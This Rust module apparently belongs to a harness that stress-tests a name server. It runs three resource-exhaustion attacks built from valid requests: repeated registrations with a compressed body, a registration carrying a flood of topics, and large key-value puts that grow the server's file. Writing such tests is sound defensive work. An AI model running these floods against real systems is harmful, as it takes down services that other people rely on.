//! Attacks made of well-formed requests: registrations that cost the server
//! far more than they cost the sender, and KV puts that grow its file.

use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use protocol::RemotingCommand;
use tokio::task::JoinSet;

use super::bodies;
use super::tally::{HostileFigures, Tally};
use super::victim::{connect_within, shared};
use crate::conn::Conn;

async fn connect(addr: SocketAddr, tally: &Tally) -> Option<Conn> {
    // Replies to these can take long: the reply wait is bounded by the attack's end.
    let shared = shared();
    let c = connect_within(
        addr,
        Duration::from_secs(600),
        Duration::from_secs(2),
        &shared,
    );
    tally.opened(c.await)
}

/// How one counted request ended.
enum Sent {
    Answered,
    ClosedByServer,
    Unanswered,
}

/// Counts a request of `bytes` bytes, sends it on `c` and counts how it
/// ended; its reply is waited for until `until`.
async fn send(
    c: &mut Conn,
    cmd: RemotingCommand,
    body: Option<&[u8]>,
    bytes: usize,
    until: Instant,
    tally: &Tally,
) -> Sent {
    Tally::one(&tally.requests_sent);
    Tally::add(&tally.bytes_sent, bytes as u64);
    match tokio::time::timeout_at(until.into(), c.call(cmd, body)).await {
        Ok(Ok(r)) => {
            tally.reply(r.cmd.code);
            Sent::Answered
        }
        Ok(Err(_)) => {
            Tally::one(&tally.closed_by_server);
            Sent::ClosedByServer
        }
        Err(_) => Sent::Unanswered,
    }
}

/// `bomb`: `conns` connections, each registering the compressed `body` in a
/// loop (one in flight per connection) until `until`.
pub async fn bomb(addr: SocketAddr, conns: usize, body: Bytes, until: Instant, tally: Arc<Tally>) {
    let mut tasks = JoinSet::new();
    for i in 0..conns {
        let (tally, body) = (tally.clone(), body.clone());
        tasks.spawn(async move {
            let Some(mut c) = connect(addr, &tally).await else {
                return;
            };
            let name = format!("AttackBomb{i}");
            let baddr = format!("127.0.0.9:{}", 20000 + i);
            while Instant::now() < until {
                let cmd = bodies::register(&name, &baddr, true, &body);
                let sent = send(&mut c, cmd, Some(&body), body.len(), until, &tally).await;
                if !matches!(sent, Sent::Answered) {
                    break;
                }
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// `topic-flood`: one registration of the `body` of many topics; the
/// connection stays (and the topics with it) until `until`.
pub async fn topic_flood(
    addr: SocketAddr,
    body: Bytes,
    until: Instant,
    tally: Arc<Tally>,
) -> Vec<String> {
    let mut notes = Vec::new();
    let Some(mut c) = connect(addr, &tally).await else {
        return notes;
    };
    let cmd = bodies::register("AttackFloodBroker", "127.0.0.9:19999", true, &body);
    let started = Instant::now();
    match send(&mut c, cmd, Some(&body), body.len(), until, &tally).await {
        Sent::Answered => notes.push(format!(
            "registration answered in {} ms",
            started.elapsed().as_millis()
        )),
        Sent::ClosedByServer => {}
        Sent::Unanswered => notes.push("registration unanswered by the end".into()),
    }
    tokio::time::sleep_until(until.into()).await;
    notes
}

fn file_len(p: &Path) -> Option<u64> {
    std::fs::metadata(p).ok().map(|m| m.len())
}

/// `kv-flood`: `puts` PUT_KV_CONFIG of `value_kib` KiB each, then the KV
/// file's size; then the keys are deleted again (best effort) so a second
/// run starts from the same file.
pub async fn kv_flood(
    addr: SocketAddr,
    puts: usize,
    value_kib: usize,
    kv_file: Option<&Path>,
    until: Instant,
    tally: Arc<Tally>,
) -> HostileFigures {
    const NS: &str = "AttackKv";
    let Some(mut c) = connect(addr, &tally).await else {
        return tally.figures();
    };
    let value = "v".repeat(value_kib << 10);
    let mut put = 0;
    while put < puts && Instant::now() < until {
        let cmd = bodies::kv_put(NS, &format!("k{put}"), value.clone());
        if !matches!(
            send(&mut c, cmd, None, value.len(), until, &tally).await,
            Sent::Answered
        ) {
            break;
        }
        put += 1;
    }
    let mut f = tally.figures();
    if let Some(p) = kv_file {
        f.kv_file_bytes = file_len(p);
        let mut bak = p.as_os_str().to_owned();
        bak.push(".bak");
        f.kv_bak_bytes = file_len(Path::new(&bak));
    }
    tokio::time::sleep_until(until.into()).await;
    for i in 0..put {
        let del = c.call(bodies::kv_delete(NS, &format!("k{i}")), None);
        if tokio::time::timeout(Duration::from_secs(5), del)
            .await
            .is_err()
        {
            break;
        }
    }
    f
}
